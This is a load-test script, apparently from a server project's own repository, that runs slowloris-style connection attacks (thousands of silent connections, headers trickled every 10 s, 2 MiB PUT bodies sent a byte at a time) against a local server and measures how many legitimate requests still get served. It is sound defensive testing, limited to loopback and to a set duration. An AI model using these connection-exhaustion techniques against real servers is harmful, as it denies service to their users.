#!/usr/bin/env bash
# Connection attacks of #33 (findings 2 and 3) against a running server on 127.0.0.1, and the share of a legitimate
# client's requests served while they hold. The attackers connect from 127.0.0.2 (another loopback address, as a
# remote attacker's address is not the legitimate client's); the legitimate client GETs from 127.0.0.1, once every
# 100 ms, each with a 2 s timeout.
#
#   loadtest/attack.sh --port 8080 --token READ_TOKEN [--writer-token RW_TOKEN] [--silent 20000] [--trickling 3000]
#                      [--slow-bodies 8] [--seconds 60]
#
# silent: connections that send nothing; trickling: connections that send a header line every 10 s; slow-bodies
# (needs --writer-token): PUTs of 2 MiB announced that send a byte every 5 s. Bounded in time (--seconds); talks to
# 127.0.0.1 only; every connection it opened is closed when it ends. Raise `ulimit -n` above the connection count.
set -euo pipefail

port=8080 token="" writer_token="" silent=20000 trickling=3000 slow_bodies=8 seconds=60
while [ $# -gt 0 ]; do
  case "$1" in
    --port) port="$2"; shift 2 ;;
    --token) token="$2"; shift 2 ;;
    --writer-token) writer_token="$2"; shift 2 ;;
    --silent) silent="$2"; shift 2 ;;
    --trickling) trickling="$2"; shift 2 ;;
    --slow-bodies) slow_bodies="$2"; shift 2 ;;
    --seconds) seconds="$2"; shift 2 ;;
    *) echo "unknown option $1" >&2; exit 2 ;;
  esac
done
[ -n "$token" ] || { echo "--token is required" >&2; exit 2; }

exec python3 - "$port" "$token" "$writer_token" "$silent" "$trickling" "$slow_bodies" "$seconds" <<'PY'
import socket, sys, threading, time, urllib.request

port, token, writer_token = int(sys.argv[1]), sys.argv[2], sys.argv[3]
silent, trickling, slow_bodies, seconds = (int(a) for a in sys.argv[4:8])
deadline = time.monotonic() + seconds
opened, refused = [], [0]

def connect():
    s = socket.socket()
    s.bind(("127.0.0.2", 0))
    s.settimeout(2)
    try:
        s.connect(("127.0.0.1", port))
        opened.append(s)
        return s
    except OSError:
        refused[0] += 1
        s.close()
        return None

def attack():
    heads = []
    for _ in range(silent):
        connect()
    for _ in range(trickling):
        s = connect()
        if s:
            try:
                s.sendall(b"GET /api/v1/sessions/x HTTP/1.1\r\nHost: localhost\r\n")
                heads.append(s)
            except OSError:
                pass
    bodies = []
    if writer_token:
        for i in range(slow_bodies):
            s = connect()
            if s:
                try:
                    s.sendall(("PUT /api/v1/sessions/slow-%d HTTP/1.1\r\nHost: localhost\r\nAuthorization: Bearer %s\r\n"
                               "Content-Type: application/vnd.sessiondata.java\r\nContent-Length: %d\r\n\r\n"
                               % (i, writer_token, 2 * 1024 * 1024)).encode())
                    bodies.append(s)
                except OSError:
                    pass
    tick = 0
    while time.monotonic() < deadline:
        time.sleep(5)
        tick += 1
        for s in bodies:
            try: s.sendall(b"a")
            except OSError: pass
        if tick % 2 == 0:
            for s in heads:
                try: s.sendall(b"X-Line: a\r\n")
                except OSError: pass

def still_open():
    n = 0
    for s in opened:
        try:
            s.setblocking(False)
            if s.recv(1, socket.MSG_PEEK) != b"":
                n += 1
        except BlockingIOError:
            n += 1
        except OSError:
            pass
    return n

threading.Thread(target=attack, daemon=True).start()
served = total = 0
while time.monotonic() < deadline:
    total += 1
    request = urllib.request.Request("http://127.0.0.1:%d/api/v1/sessions/absent" % port,
                                     headers={"Authorization": "Bearer " + token})
    try:
        urllib.request.urlopen(request, timeout=2)
    except urllib.error.HTTPError as answer:
        served += answer.code == 404
    except OSError:
        pass
    time.sleep(0.1)
print("legitimate GETs served: %d of %d (%.1f %%)" % (served, total, 100.0 * served / max(total, 1)))
print("attacking connections: %d opened, %d refused at connect, %d still open at the end"
      % (len(opened), refused[0], still_open()))
for s in opened:
    s.close()
PY
